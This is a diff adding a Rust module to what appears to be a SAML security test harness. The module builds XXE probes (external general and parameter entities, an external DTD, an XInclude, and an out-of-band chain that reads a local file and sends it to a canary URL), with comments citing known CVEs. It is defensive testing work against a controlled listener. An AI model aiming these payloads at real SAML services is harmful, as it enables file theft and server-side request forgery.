@@ -1,0 +1,107 @@
+//! External entities, external DTDs and XInclude: the IdP's own response, plus a DOCTYPE or
+//! an include that makes a parser fetch a URL on the harness's canary listener (or read a
+//! local file and send it there). Nothing signed changes, so only the fetch is judged.
+
+use crate::bytes::{insert, qualified_name, splice, Doc};
+use crate::family::Parts;
+use crate::forge::{Forge, Forged, Served, Skip};
+use saml_protocol::XINCLUDE_NS;
+
+/// The path below the canary prefix that the exfiltration probe sends the file's content to,
+/// in its `content` query parameter.
+pub const EXFILTRATION_PATH: &str = "file";
+
+/// The seed without its XML declaration, its root's qualified name (for the DOCTYPE), and
+/// `content` inserted in a `samlp:Extensions` after the Response header (outside the signed
+/// Assertion).
+fn with_extension(f: &Forge, content: &str) -> Result<(String, String), Skip> {
+    let seed = crate::family::xsw::embeddable(f.seed);
+    let doc = Doc::parse(seed)?;
+    let p = Parts::of(&doc)?;
+    let root = qualified_name(doc.src, p.root).to_owned();
+    let extensions = match root.split_once(':') {
+        Some((prefix, _)) => format!("{prefix}:Extensions"),
+        None => "Extensions".to_owned(),
+    };
+    let xml = splice(
+        doc.src,
+        vec![insert(
+            p.after_response_header(),
+            format!("<{extensions}>{content}</{extensions}>"),
+        )],
+    );
+    Ok((root, xml))
+}
+
+/// The seed without its XML declaration and its root's qualified name.
+fn bare(f: &Forge) -> Result<(String, String), Skip> {
+    let seed = crate::family::xsw::embeddable(f.seed);
+    let doc = Doc::parse(seed)?;
+    let p = Parts::of(&doc)?;
+    Ok((qualified_name(doc.src, p.root).to_owned(), seed.to_owned()))
+}
+
+/// An element in a namespace of its own that carries `text` (schema-valid inside Extensions).
+fn probe_element(text: &str) -> String {
+    format!("<c:probe xmlns:c=\"urn:saml-harness:canary\">{text}</c:probe>")
+}
+
+/// An external general entity on the canary, referenced in an Extensions element (pysaml2
+/// CVE-2016-10149, samlify CVE-2017-1000452, FusionAuth CVE-2021-27736).
+pub fn external_entity(f: &Forge) -> Result<Forged, Skip> {
+    let canary = &f.canary()?.prefix;
+    let (root, xml) = with_extension(f, &probe_element("&probe;"))?;
+    Ok(Forged::same_identity(format!(
+        "<!DOCTYPE {root} [<!ENTITY probe SYSTEM \"{canary}/entity\">]>{xml}"
+    )))
+}
+
+/// An external parameter entity on the canary, expanded in the internal subset (SAML
+/// Raider's out-of-band XXE): fetched while the DTD is read, no reference in content needed.
+pub fn parameter_entity(f: &Forge) -> Result<Forged, Skip> {
+    let canary = &f.canary()?.prefix;
+    let (root, xml) = bare(f)?;
+    Ok(Forged::same_identity(format!(
+        "<!DOCTYPE {root} [<!ENTITY % probe SYSTEM \"{canary}/parameter-entity\"> %probe;]>{xml}"
+    )))
+}
+
+/// An external DTD subset on the canary (`<!DOCTYPE r SYSTEM "…">`).
+pub fn external_dtd(f: &Forge) -> Result<Forged, Skip> {
+    let canary = &f.canary()?.prefix;
+    let (root, xml) = bare(f)?;
+    Ok(Forged::same_identity(format!(
+        "<!DOCTYPE {root} SYSTEM \"{canary}/external.dtd\">{xml}"
+    )))
+}
+
+/// The out-of-band exfiltration chain: a parameter entity loads a DTD from the canary, which
+/// reads the check's local canary file and sends its content back to the canary in a URL
+/// (a file with a newline, `/etc/hostname` say, makes libxml2 refuse the URL, so the harness
+/// writes one without).
+pub fn exfiltrate(f: &Forge) -> Result<Forged, Skip> {
+    let (canary, file) = (&f.canary()?.prefix, &f.canary()?.file);
+    let (root, xml) = bare(f)?;
+    let dtd = format!(
+        "<!ENTITY % file SYSTEM \"file://{file}\">\n\
+         <!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{canary}/{EXFILTRATION_PATH}?content=%file;'>\">\n\
+         %wrap;\n%send;\n"
+    );
+    Ok(Forged {
+        served: vec![Served {
+            path: "exfiltrate.dtd".into(),
+            body: dtd,
+        }],
+        ..Forged::same_identity(format!(
+            "<!DOCTYPE {root} [<!ENTITY % dtd SYSTEM \"{canary}/exfiltrate.dtd\"> %dtd;]>{xml}"
+        ))
+    })
+}
+
+/// An XInclude of a canary URL in an Extensions element (no DTD at all).
+pub fn xinclude(f: &Forge) -> Result<Forged, Skip> {
+    let canary = &f.canary()?.prefix;
+    let include = format!("<xi:include xmlns:xi=\"{XINCLUDE_NS}\" href=\"{canary}/xinclude\"/>");
+    let (_, xml) = with_extension(f, &probe_element(&include))?;
+    Ok(Forged::same_identity(xml))
+}
